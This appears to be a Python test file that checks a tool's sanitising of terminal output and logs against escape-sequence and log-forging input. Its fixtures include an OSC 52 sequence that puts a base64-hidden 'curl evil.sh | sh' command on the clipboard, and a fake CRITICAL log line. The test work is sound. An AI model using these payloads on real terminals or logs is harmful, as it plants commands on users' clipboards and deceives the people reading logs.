"""Text from outside on a terminal and in the logs: `printable`, and the daemon's real log
handlers (file and stderr) under values that try to forge a line or drive a terminal."""

from __future__ import annotations

import asyncio
import io
import logging
from collections.abc import Iterator
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from nanoclaw.cli.main import setup_logging
from nanoclaw.cli.tasks import run_line, task_line
from nanoclaw.config import Settings
from nanoclaw.display import escaped, printable
from nanoclaw.sandbox.egress import EgressProxy
from nanoclaw.schedule.tasks import AGENT, Schedule, Task, TaskRun

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # sets the clipboard to a command
FORGED = "\n2026-01-01 00:00:00,000 CRITICAL nanoclaw: forged"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain text, ünïcode ✓", "plain text, ünïcode ✓"),
        ("line one\n\tindented", "line one\n\tindented"),
        (f"before{OSC52}after", "beforeafter"),
        ("a\x1b]0;new title\x1b\\b", "ab"),  # OSC ended by ST
        ("a\x9d52;c;aGk=\x9cb", "ab"),  # the 8-bit forms
        ("\x1b[31mred\x1b[0m \x1b[2J\x1b[H", "red "),  # colours, clear screen, home
        ("\x9b2Jx", "x"),
        ("a\x1bPq#0;1;2\x1b\\b", "ab"),  # DCS
        ("a\x1b]52;c;aGk=", "a52;c;aGk="),  # unterminated: the payload stays visible
        ("a\x1b(0b\x1b7c", "abc"),
        ("over\rwrite\x08\x00\x7f\x85", "overwrite"),
    ],
)
def test_printable(text: str, shown: str) -> None:
    assert printable(text) == shown


def test_task_listings_show_the_agents_words_inert() -> None:
    """`nanoclaw tasks list` and `runs` print a prompt and a result an agent wrote."""
    zone = ZoneInfo("UTC")
    task = Task("t1", "work", AGENT, f"Brief\x1b[2J{OSC52}me", Schedule("every", every_s=60))
    run = TaskRun(1, "t1", "work", 0, "failed", result=f"oops{OSC52}\r\x1b[1Adone")
    for line in (task_line(task, zone), run_line(run, zone)):
        assert "\x1b" not in line and "\x07" not in line and "\r" not in line
    assert task_line(task, zone).endswith(" Briefme")
    assert run_line(run, zone).endswith(" oopsdone")


def test_escaped_keeps_one_line() -> None:
    text = "a\nb\rc\x1b[31m\u2028\u2029\x85\td"
    assert escaped(text) == "a\\nb\\rc\\x1b[31m\\u2028\\u2029\\x85\td"
    assert len(escaped(FORGED + OSC52).splitlines()) == 1


@pytest.fixture
def root_level() -> Iterator[None]:
    level = logging.getLogger().level
    yield
    logging.getLogger().setLevel(level)


def _logged(handler: logging.Handler, stream: io.StringIO, settings: Settings) -> str:
    handler.flush()
    if isinstance(handler, logging.FileHandler):
        return (settings.layout.logs / "nanoclaw.log").read_text()
    return stream.getvalue()


@pytest.mark.parametrize("to_file", [True, False], ids=["file (chat)", "stderr (run)"])
async def test_outside_values_cannot_forge_log_lines(
    settings: Settings, tmp_path: Path, to_file: bool, root_level: None
) -> None:
    stream = io.StringIO()
    handler = setup_logging(settings, to_file=to_file, stream=stream)
    proxy = EgressProxy(("example.com",), "run=7")
    sock = tmp_path / "egress.sock"
    try:
        handler_log = logging.getLogger("nanoclaw.ipc.handler")
        handler_log.warning("bad file %s set aside", f"x.json{FORGED}")
        try:
            raise ValueError("ours")
        except ValueError:
            logging.getLogger("nanoclaw.test").exception("with a trace %s", OSC52)
        # a real refusal: the proxy logs the target an agent asked for
        await proxy.start(sock)
        reader, writer = await asyncio.open_unix_connection(str(sock))
        writer.write(f"CONNECT evil{FORGED.replace(' ', '')}:443 HTTP/1.1\r\n\r\n".encode())
        assert (await asyncio.wait_for(reader.read(), 10)).startswith(b"HTTP/1.1 403 ")
        writer.close()
    finally:
        await proxy.stop()
        logging.getLogger().removeHandler(handler)
        handler.close()
    lines = _logged(handler, stream, settings).splitlines()
    records = [line for line in lines if line[:4].isdigit()]  # a record starts with its date
    assert len(records) == 3, lines
    assert "CRITICAL" not in "".join(line.split(" ", 3)[2] for line in records)
    assert "x.json\\n2026-01-01 00:00:00,000 CRITICAL nanoclaw: forged set aside" in records[0]
    assert "with a trace \\x1b]52;c;" in records[1] and "\x1b" not in "\n".join(lines)
    assert "Traceback (most recent call last):" in lines  # the traceback keeps its lines
    assert "egress run=7 refused evil\\n2026-01-01" in records[2]
